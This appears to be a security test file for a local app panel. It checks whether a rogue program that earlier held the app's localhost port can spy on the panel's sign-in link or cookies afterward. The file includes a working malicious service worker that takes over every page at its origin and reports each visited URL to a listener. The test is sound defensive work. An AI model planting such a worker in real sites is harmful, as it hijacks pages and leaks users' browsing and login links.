// Panel: an impostor before the engine
// Another account's program has the engine's port while no engine runs, and leaves a worker and a cache in the browser.

import { once } from "node:events";
import { createServer, type IncomingMessage, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Browser } from "playwright-core";
import { serve, TOKEN } from "../../../support/http/served.ts";
import { linkAt } from "../../../support/http/signed-in.ts";
import { build } from "../../../support/processes/program.ts";
import { startBrowser } from "../../../support/panel/browser.ts";

let browser: Browser;
beforeAll(async () => {
  await build();
  browser = await startBrowser();
}, 180_000);
afterAll(() => browser.close());

const PAGE = `<!doctype html><title>impostor</title><script>
  navigator.serviceWorker.register("/worker.js", { scope: "/" }).then(() => navigator.serviceWorker.ready)
    .then(() => caches.open("kept")).then((kept) => kept.addAll(["/", "/app/worker.js"]))
    .then(() => { document.title = "poisoned"; });
</script>`;
/** Answers every page with its own, and passes on each address that it sees. */
const worker = (teller: string): string => `
  addEventListener("install", () => skipWaiting());
  addEventListener("activate", (event) => event.waitUntil(clients.claim()));
  addEventListener("fetch", (event) => {
    event.respondWith((async () => {
      await fetch("${teller}/?seen=" + encodeURIComponent(event.request.url), { mode: "no-cors" }).catch(() => 0);
      return new Response("the impostor's page", { headers: { "Content-Type": "text/html" } });
    })());
  });`;

async function listener(answer: (path: string) => readonly [type: string, body: string], port = 0) {
  const heard: IncomingMessage[] = [];
  const server: Server = createServer((request, response) => {
    heard.push(request);
    const [type, body] = answer(request.url ?? "");
    response
      .writeHead(200, { "Content-Type": type, "Cache-Control": "max-age=31536000, immutable" })
      .end(body);
  });
  server.listen(port, "127.0.0.1");
  await once(server, "listening");
  const end = async (): Promise<void> => {
    server.closeAllConnections();
    server.close();
    await once(server, "close");
  };
  return { heard, port: (server.address() as AddressInfo).port, end };
}

describe("the panel: an impostor had the engine's port", () => {
  it("PANEL-NAME-1, PANEL-NAME-2: its worker hears nothing of the link, the panel shows, and no other port gets the cookie", async () => {
    const teller = await listener(() => ["text/plain", ""]);
    const impostor = await listener((path) =>
      path === "/worker.js"
        ? ["text/javascript", worker(`http://127.0.0.1:${teller.port}`)]
        : ["text/html", PAGE],
    );
    const context = await browser.newContext();
    const page = await context.newPage();
    const near = ["127.0.0.1", "localhost"].map((host) => `http://${host}:${impostor.port}`);
    for (const origin of near) {
      await page.goto(origin);
      await page.waitForFunction("document.title === 'poisoned'");
    }
    await impostor.end();

    const served = await serve({ place: { port: impostor.port } });
    const link = await linkAt(served.url, TOKEN);
    await page.goto(link);
    await page.locator(".link.live").waitFor();
    const toldOf = () => teller.heard.map(({ url = "" }) => decodeURIComponent(url));
    expect(
      toldOf().filter((told) => told.includes(new URL(link).hostname) || told.includes("code=")),
    ).toEqual([]);
    expect(await page.evaluate("navigator.serviceWorker.getRegistrations().then((all) => all.length)")).toBe(
      0,
    );

    // The impostor's worker is there all the same, and hears of what is opened at its own origin.
    for (const origin of near) {
      await page.goto(`${origin}/?again`);
      expect(await page.locator("body").textContent()).toBe("the impostor's page");
    }
    expect(toldOf().filter((told) => told.endsWith("/?again"))).toHaveLength(2);

    const other = await listener(() => ["text/html", "<title>another port</title>"]);
    for (const host of ["127.0.0.1", "localhost"]) await page.goto(`http://${host}:${other.port}/`);
    expect(other.heard.length).toBeGreaterThan(1);
    expect([...other.heard, ...teller.heard].filter(({ headers }) => headers.cookie)).toEqual([]);
    await page.goto(new URL(link).origin);
    await page.locator(".link.live").waitFor();
    await context.close();
    await served.stop();
    await Promise.all([other.end(), teller.end()]);
  });
});
